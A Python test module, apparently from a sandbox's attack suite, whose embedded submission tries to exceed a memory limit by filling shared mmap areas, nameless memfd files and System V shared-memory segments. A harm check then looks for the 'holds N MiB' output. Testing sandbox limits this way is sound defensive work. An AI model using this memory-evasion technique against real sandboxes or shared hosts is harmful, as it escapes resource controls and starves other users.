"""Fills memory that is no process's own: shared maps, files without a name, segments."""

import re

from attack import wrong

PROOF = "begins"
FILL = """
import ctypes, mmap, os
kept, step, most = [], 30 * 2**20, 1200 * 2**20  # more than twice what is allowed
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
def shared_map():
    area = mmap.mmap(-1, step)
    area.write(b"2" * step)
    kept.append(area)
def nameless_file():
    os.write(os.memfd_create("x"), b"2" * step)
def segment():
    number = libc.shmget(0, step, 0o1600)
    place = ctypes.c_void_p(libc.shmat(number, None, 0))
    ctypes.memset(place, 50, step)
    libc.shmdt(place)
def fill(way):
    for _ in range(0, most, step):
        way()
    print("holds", most >> 20, "MiB by", way.__name__)
def double(x):
    fill(shared_map)
def row_sums(x):
    fill(nameless_file)
def biggest(x):
    fill(segment)
print("begins")
"""


def submission():
    return wrong(double=FILL, row_sums="", biggest="")


def harm(arena):
    held = re.search(r"holds \d+ MiB by \w+", arena.shown(__name__))
    return f"it {held[0]}" if held else ""
